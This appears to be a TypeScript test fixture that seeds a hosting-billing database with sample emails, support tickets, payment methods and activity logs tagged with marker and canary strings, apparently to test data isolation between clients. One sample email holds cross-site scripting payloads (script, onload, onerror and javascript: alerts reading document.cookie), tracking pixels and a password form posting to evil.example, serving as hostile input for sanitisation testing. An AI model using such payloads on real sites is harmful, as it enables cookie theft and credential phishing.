import type { Row } from '../core/schema.ts'
import type { Planter } from './planter.ts'

const hostile = `<!DOCTYPE html>
<html><head><style>body { background: url(https://tracker.example/style.png) }</style></head>
<body onload="alert(1)"><script>alert(document.cookie)</script>
<img src="https://tracker.example/pixel.gif" onerror="alert(2)">
<form action="https://evil.example/"><input name="password"></form>
<p>Dear Jane, your server <b>vps1.example.com</b> is ready. <a href="javascript:alert(3)">Sign in</a>
<a href="https://provider.example.com/">Our site</a> MARKER-C1-EMAIL</p></body></html>`

const page = (text: string) => `<!DOCTYPE html>\n<html><body><p>${text}</p></body></html>`

/** client, days, subject, message, recipient */
const EMAILS: [number, number, string, string, string][] = [
  [
    1,
    -200,
    'Welcome to Example Hosting Provider',
    page('Thank you for signing up. MARKER-C1-EMAIL'),
    'owner@example.com',
  ],
  [1, -60, 'Invoice Payment Confirmation', page('We received your payment of €74.33 EUR.'), 'owner@example.com'],
  [1, -30, 'Your server is ready <script>alert(1)</script>', hostile, 'owner@example.com'],
  [1, -18, 'Customer Invoice', page('A new invoice has been generated.'), 'owner@example.com'],
  [1, -9, 'تذكير بالدفع', page('<span dir="rtl">فاتورتك مستحقة الدفع</span>'), 'owner@example.com'],
  [1, -3, 'Invoice Payment Reminder', page('Your invoice is due soon.'), 'owner@example.com'],
  [2, -20, 'MARKER-C2-EMAIL Invoice', page('MARKER-C2-EMAIL'), 'agency@example.com'],
  [3, -10, 'MARKER-C3-EMAIL 請求書', page('MARKER-C3-EMAIL'), 'third@example.com'],
]

function mails({ store, time }: Planter): void {
  for (const [userid, days, subject, message, to] of EMAILS) {
    store.insert('emails', { userid, subject, message, date: time(days), to })
  }
}

interface Talk {
  client: number
  user: number
  name: string
  email: string
  subject: string
  status: string
  days: number
  says: string[]
}

const TALKS: Talk[] = [
  {
    client: 1,
    user: 3,
    name: 'Jane Doe',
    email: 'owner@example.com',
    subject: 'Backups aren\'t running & "restore" fails',
    status: 'Answered',
    days: -12,
    says: ["Hello,\r\n\r\nI don't see last night's <backup>. MARKER-C1-TICKET", 'We are looking into it.', 'Thanks!'],
  },
  {
    client: 1,
    user: 6,
    name: 'Tess Tech',
    email: 'tech@example.com',
    subject: 'Reverse DNS for vps1',
    status: 'Open',
    days: -1,
    says: ['Please set it to vps1.example.com.'],
  },
  {
    client: 2,
    user: 5,
    name: 'Alex Agency',
    email: 'agency@example.com',
    subject: 'MARKER-C2-TICKET question',
    status: 'Closed',
    days: -70,
    says: ['MARKER-C2-TICKET', 'Done.'],
  },
]

function talk(planter: Planter, { client, user, name, email, subject, status, days, says }: Talk): void {
  const { store, random, time } = planter
  const [message = '', ...replies] = says
  const who = { userid: client, requestor_id: planter.hasUsers ? user : 0 }
  const ticket = store.insert('tickets', {
    tid: `${random.pick(['GLY', 'HST', 'QWE'])}-${random.int(100_000, 999_999)}`,
    c: random.hex(8),
    deptid: 1,
    ...who,
    name,
    email,
    date: time(days),
    subject,
    message,
    status,
    priority: 'Medium',
    lastreply: time(days + replies.length),
    prevent_client_closure: 0,
  })
  replies.forEach((text, place) => {
    const byStaff = place % 2 === 0
    const author = byStaff ? { admin: 'Site Admin' } : { name, email }
    store.insert('ticket_replies', { tid: ticket, ...who, ...author, date: time(days + place + 1), message: text })
  })
  store.insert('ticket_notes', {
    ticketid: ticket,
    date: time(days),
    message: `CANARY-C${client}-TICKET-NOTE`,
    admin: 'Site Admin',
  })
  const screenshot = { filename: 'screenshot.png', data: 'iVBORw0KGgo=' }
  if (client === 1) store.insert('attachments', { type: 'ticket', relid: ticket, position: 0, ...screenshot })
}

const card: Partial<Row<'pay_methods'>> = { contact_type: 'Client', card_type: 'Visa', card_last_four: '4242' }

function payMethods({ store, time }: Planter): void {
  const add = (clientid: number, values: Partial<Row<'pay_methods'>>) => {
    const remote_token = `{"customer":"CANARY-C${clientid}-REMOTE-TOKEN"}`
    store.insert('pay_methods', {
      clientid,
      contact_id: clientid,
      remote_token,
      last_updated: time(-90),
      ...card,
      ...values,
    })
  }
  const stripe = { type: 'RemoteCreditCard', gateway_name: 'stripe' }
  add(1, { ...stripe, description: 'Company card', expiry_date: '12/29', is_default: 1 })
  const local = { type: 'CreditCard', description: 'Old card', expiry_date: '01/25', card_type: 'MasterCard' }
  add(1, { ...local, card_last_four: '4444', remote_token: '' })
  add(1, { type: 'BankAccount', description: 'House bank', bank_name: 'Sparkasse', card_type: '', card_last_four: '' })
  add(2, { ...stripe, description: 'MARKER-C2-CARD', expiry_date: '06/28' })
}

export function plantDesk(planter: Planter): void {
  const { store, time } = planter
  mails(planter)
  for (const one of TALKS) talk(planter, one)
  payMethods(planter)
  const log = (clientid: number, user_id: number, days: number, description: string, username: string) =>
    store.insert('activity_log', {
      clientid,
      user_id,
      date: time(days),
      description,
      username,
      ipaddress: '203.0.113.7',
    })
  log(1, 3, -30, 'Modified Client Profile - MARKER-C1-LOG', 'owner@example.com')
  log(1, 2, -9, 'User login', 'billing@example.com')
  log(2, 5, -8, 'User login - MARKER-C2-LOG', 'agency@example.com')
  const cron = { description: 'Cron Job: Check for Updates: No new updates available', username: 'admin', admin_id: 1 }
  store.insert('activity_log', { ...cron, date: time(-1), ipaddress: '192.0.2.1' })
  const seen = { lastlogin: time(-1), lastlogin_ip: '203.0.113.7' }
  store.update('clients', 1, seen)
  if (planter.hasUsers) store.update('users', 3, seen)
}
